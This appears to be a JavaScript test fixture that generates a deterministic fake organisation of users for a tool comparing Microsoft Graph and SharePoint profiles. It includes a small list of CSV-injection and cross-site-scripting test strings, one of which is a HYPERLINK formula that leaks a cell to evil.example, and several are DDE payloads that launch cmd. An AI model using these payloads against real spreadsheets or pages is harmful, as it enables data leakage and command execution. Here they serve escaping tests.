'use strict';

// Everyone in the fake organisation, made from their index alone (no Math.random), so the same
// ORG_SIZE gives the same people, ids and findings on every run. Each person is the facts each
// side holds: `graph` (Entra ID, what /users returns) and `sharePoint` (the user profile, or null
// when SharePoint has no profile for them yet), plus photo presence on each side.
//
// The mix, by `roll(index, CATEGORY) % 100` (README "Organisation"):
//   0-57 in sync (some with harmless formatting differences; 1 in 10 of those with both photos has
//        an older, different SharePoint photo, which a photo-presence scan cannot see)
//   58-65 photo only in Microsoft 365 · 66-69 photo only in SharePoint · 70-71 no photo anywhere
//   72-83 1-3 synced properties differ · 84-89 only the mobile phone differs (not synced: info)
//   90-91 Graph cannot tell about the photo (mailbox on premises) · 92-93 photo only in Microsoft 365
//        and a property differs · 94 no SharePoint profile yet · 95-96 hostile values, the same on
//        both sides · 97 hostile values that differ · 98-99 a synced property and the mobile differ
// Guests and disabled accounts are drawn apart from the mix (1 in 40 each), as is group membership.

const crypto = require('crypto');
const { guidFrom, TENANT_DOMAIN } = require('../profileBuilders');

const GIVEN_NAMES = [
  'Ingrid', 'Ola', 'Kari', 'Lars', 'Nora', 'Jonas', 'Emma', 'Henrik', 'Sofie', 'Magnus', 'Aisha', 'Mateo', 'José', 'Zoë',
  'Björn', 'Siobhán', 'Ngozi', 'Wei', 'Priya', 'Tomás', 'Hanne', 'Eirik', 'Maja', 'Oskar', 'Leila', 'Kenji', 'Amélie',
  'Ravi', 'Grace', 'Dmitri', 'Fatima', 'Liam', 'Chloé', 'Sindre', 'Astrid', 'Yusuf', 'Marta', 'Ahmed', 'Ida', 'Noah'
];
const SURNAMES = [
  'Hansen', 'Johansen', 'Olsen', 'Larsen', 'Andersen', 'Pedersen', 'Nilsen', 'Kristiansen', 'Jensen', 'Karlsen',
  'Johnsen', 'Pettersen', 'Eriksen', 'Berg', 'Haugen', 'Hagen', 'Johannessen', 'Andreassen', 'Jacobsen', 'Dahl',
  'Jørgensen', 'Halvorsen', 'Møller', 'Søreide', 'García', 'Müller', 'Okafor', 'Nakamura', 'Kowalski', 'Ó Briain'
];
const JOB_TITLES = [
  'Account Manager', 'Sales Representative', 'Marketing Specialist', 'Financial Analyst', 'HR Advisor', 'IT Consultant',
  'Project Manager', 'Product Owner', 'Software Developer', 'Data Analyst', 'Customer Success Manager', 'Accountant',
  'Legal Counsel', 'Office Manager', 'Designer', 'Warehouse Coordinator', 'Team Lead', 'Service Technician'
];
const DEPARTMENTS = [
  'Sales', 'Marketing', 'Finance', 'Human Resources', 'IT', 'Operations', 'Legal', 'Customer Success', 'Product',
  'Research', 'Logistics', 'Communications'
];
const OFFICES = ['Oslo HQ / 3.14', 'Bergen / 1.02', 'Trondheim / 2.07', 'Stavanger / 4.01', 'Tromsø / 1.11', 'Remote', 'Stockholm / 5.20'];

// Formula and script text a CSV export or a careless page could run (OWASP "CSV injection").
const HOSTILE_VALUES = [
  '<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '"><img src=x onerror=alert(1)>'
];

const SALT = { category: 1, account: 2, group: 3, drift: 4, stalePhoto: 5, formatting: 6, values: 7, unset: 8 };

/** A well-mixed 32-bit number from an index and a salt (murmur3's finaliser). */
function roll(index, salt) {
  let x = (Math.imul(index + 1, 0x9e3779b1) ^ Math.imul(salt + 7, 0x85ebca6b)) >>> 0;
  x = Math.imul(x ^ (x >>> 16), 0x85ebca6b) >>> 0;
  x = Math.imul(x ^ (x >>> 13), 0xc2b2ae35) >>> 0;
  return (x ^ (x >>> 16)) >>> 0;
}

const pick = (list, index, salt) => list[roll(index, salt) % list.length];

/** What is true of person `index`, as the mix above says. */
function categoryOf(index) {
  const c = roll(index, SALT.category) % 100;
  if (c <= 57) return 'in-sync';
  if (c <= 65) return 'photo-only-in-microsoft365';
  if (c <= 69) return 'photo-only-in-sharepoint';
  if (c <= 71) return 'no-photo';
  if (c <= 83) return 'properties-differ';
  if (c <= 89) return 'mobile-differs';
  if (c <= 91) return 'photo-unknown';
  if (c <= 93) return 'photo-only-in-microsoft365-and-property';
  if (c === 94) return 'no-sharepoint-profile';
  if (c <= 96) return 'hostile-same';
  if (c === 97) return 'hostile-differs';
  return 'property-and-mobile-differ';
}

const ascii = (text) => text.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/ø/g, 'o').replace(/[^A-Za-z]/g, '').toLowerCase();

function phoneNumber(index, salt) {
  const n = String(roll(index, salt) % 100000000).padStart(8, '0');
  return `+47 ${n.slice(0, 2)} ${n.slice(2, 4)} ${n.slice(4, 6)} ${n.slice(6, 8)}`;
}

/** Graph's side: the microsoft.graph.user fields the scan selects. */
function graphFacts(index) {
  const givenName = pick(GIVEN_NAMES, index, SALT.values);
  const surname = pick(SURNAMES, index, SALT.values + 1);
  const accountKind = roll(index, SALT.account) % 40;
  const guest = accountKind === 0;
  const alias = `${ascii(givenName)}.${ascii(surname)}.${index}`;
  // Entra ID names a guest after their home address with #EXT# (learn.microsoft.com, "B2B collaboration user properties").
  const userPrincipalName = guest ? `${alias}_fabrikam.example#EXT#@${TENANT_DOMAIN}` : `${alias}@${TENANT_DOMAIN}`;
  const unset = roll(index, SALT.unset) % 20;
  return {
    id: guidFrom(`org:${index}`),
    accountEnabled: accountKind !== 1,
    userType: guest ? 'Guest' : 'Member',
    displayName: `${givenName} ${surname}`,
    givenName,
    surname,
    jobTitle: unset === 0 ? null : pick(JOB_TITLES, index, SALT.values + 2),
    department: unset === 1 ? null : pick(DEPARTMENTS, index, SALT.values + 3),
    officeLocation: unset === 2 ? null : pick(OFFICES, index, SALT.values + 4),
    businessPhones: unset <= 4 ? [] : [phoneNumber(index, SALT.values + 5)],
    mail: guest ? `${alias}@fabrikam.example` : userPrincipalName,
    mobilePhone: unset >= 14 ? null : phoneNumber(index, SALT.values + 6),
    preferredLanguage: unset % 2 === 0 ? 'nb-NO' : 'en-US',
    userPrincipalName
  };
}

/** SharePoint's copy of the Graph values, as the directory import wrote them ('' for unset). */
function syncedCopy(graph) {
  return {
    displayName: graph.displayName,
    givenName: graph.givenName,
    surname: graph.surname,
    jobTitle: graph.jobTitle || '',
    department: graph.department || '',
    officeLocation: graph.officeLocation || '',
    businessPhone: graph.businessPhones[0] || '',
    mail: graph.mail,
    mobilePhone: graph.mobilePhone || ''
  };
}

/** Differences that are no difference: case, spacing, Unicode form (README "How it decides"). */
function harmlessFormatting(index, copy) {
  switch (roll(index, SALT.formatting) % 5) {
    case 0: return { ...copy, mail: copy.mail.toUpperCase() };
    case 1: return { ...copy, businessPhone: copy.businessPhone.replace(/ /g, '') };
    case 2: return { ...copy, displayName: ` ${copy.displayName.replace(' ', '  ')} ` };
    case 3: return { ...copy, displayName: copy.displayName.normalize('NFD'), givenName: copy.givenName.normalize('NFD') };
    default: return copy;
  }
}

const DRIFTING_FIELDS = ['jobTitle', 'department', 'officeLocation', 'businessPhone', 'surname'];

/** An older value for a synced field: what SharePoint still shows after Entra ID changed. */
function olderValue(field, index, copy) {
  switch (field) {
    case 'jobTitle': return copy.jobTitle === 'Team Lead' ? 'Senior Team Lead' : 'Team Lead';
    case 'department': return copy.department === 'Operations' ? 'Logistics' : 'Operations';
    case 'officeLocation': return copy.officeLocation === 'Remote' ? 'Oslo HQ / 1.01' : 'Remote';
    case 'businessPhone': return phoneNumber(index, SALT.drift + 11);
    default: return `${copy.surname}-Old`;
  }
}

function withDrift(index, copy) {
  const count = 1 + (roll(index, SALT.drift) % 3);
  const start = roll(index, SALT.drift + 1) % DRIFTING_FIELDS.length;
  const drifted = { ...copy };
  for (let k = 0; k < count; k += 1) {
    const field = DRIFTING_FIELDS[(start + k) % DRIFTING_FIELDS.length];
    drifted[field] = olderValue(field, index, copy);
    if (field === 'surname') drifted.displayName = `${copy.givenName} ${drifted.surname}`;
  }
  return drifted;
}

const withOtherMobile = (index, copy) => ({ ...copy, mobilePhone: phoneNumber(index, SALT.drift + 12) });

function hostileGraph(index, graph) {
  const value = (k) => HOSTILE_VALUES[(roll(index, SALT.values + 20) + k) % HOSTILE_VALUES.length];
  // Half of them have a display name that is nothing but the hostile text (a CSV cell that starts with "=").
  const displayName = roll(index, SALT.values + 22) % 2 === 0 ? value(0) : `${graph.givenName} ${value(0)}`;
  return { ...graph, displayName, jobTitle: value(1), department: value(2), officeLocation: value(3) };
}

/** One person of the organisation. */
function personAt(index) {
  const category = categoryOf(index);
  let graph = graphFacts(index);
  if (category.startsWith('hostile')) graph = hostileGraph(index, graph);
  let copy = syncedCopy(graph);
  if (category === 'in-sync') copy = harmlessFormatting(index, copy);
  if (['properties-differ', 'photo-only-in-microsoft365-and-property', 'property-and-mobile-differ'].includes(category)) copy = withDrift(index, copy);
  if (category === 'hostile-differs') copy = { ...copy, jobTitle: HOSTILE_VALUES[(roll(index, SALT.values + 21)) % HOSTILE_VALUES.length] + ' (old)' };
  if (category === 'mobile-differs' || category === 'property-and-mobile-differ') copy = withOtherMobile(index, copy);

  const graphPhoto = ['photo-only-in-sharepoint', 'no-photo'].includes(category) ? 'none' : category === 'photo-unknown' ? 'unavailable' : 'photo';
  const spHasPhoto = !['photo-only-in-microsoft365', 'photo-only-in-microsoft365-and-property', 'no-photo'].includes(category);
  const stale = category === 'in-sync' && roll(index, SALT.stalePhoto) % 10 === 0;
  const sharePointPhoto = !spHasPhoto ? null : graphPhoto === 'photo' && !stale ? 'same' : 'other';
  const membership = roll(index, SALT.group) % 10;
  return {
    index,
    category,
    graph,
    graphPhoto,
    sharePoint: category === 'no-sharepoint-profile' ? null : { ...copy, photo: sharePointPhoto },
    group: membership <= 1 ? 'direct' : membership === 2 ? 'nested' : null
  };
}

/** A stand-in for an etag: changes when the photo does, without drawing it. */
function photoVersion(person) {
  return crypto.createHash('sha256').update(`${person.graph.id}:${person.photoGeneration || 0}`).digest('hex').slice(0, 8).toUpperCase();
}

module.exports = { personAt, categoryOf, roll, photoVersion, HOSTILE_VALUES };
